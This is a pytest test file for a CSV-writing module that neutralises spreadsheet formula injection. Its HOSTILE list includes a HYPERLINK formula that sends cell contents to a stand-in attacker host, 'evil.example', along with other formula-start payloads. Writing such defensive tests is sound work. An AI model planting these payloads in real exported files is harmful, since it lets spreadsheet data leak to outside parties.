"""Every CSV cell a spreadsheet would run as a formula is neutralised, and reads back as it was."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from thematica.safeio.csvfiles import neutralise, restore_cell, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_starts_are_neutralised_and_restored(cell: str) -> None:
    safe = neutralise(cell)
    assert safe == "'" + cell
    assert restore_cell(safe) == cell


def test_ordinary_text_and_numbers_are_untouched(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    count = write_csv(path, ["text", "n"], [["she said 'yes'", -3], ["'quoted'", 2.5], [None, 0]])
    assert count == 3
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["text", "n"], ["she said 'yes'", "-3"], ["'quoted'", "2.5"], ["", "0"]]
    assert restore_cell("'quoted'") == "'quoted'"


def test_every_hostile_cell_is_written_as_text(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(path, ["=header"], [[cell] for cell in [*HOSTILE, "\x00=1"]])
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [row[0] for row in rows]
    assert all(cell.startswith("'") for cell in cells), cells
    assert cells[-1] == "'=1", "a control character cannot hide a formula"
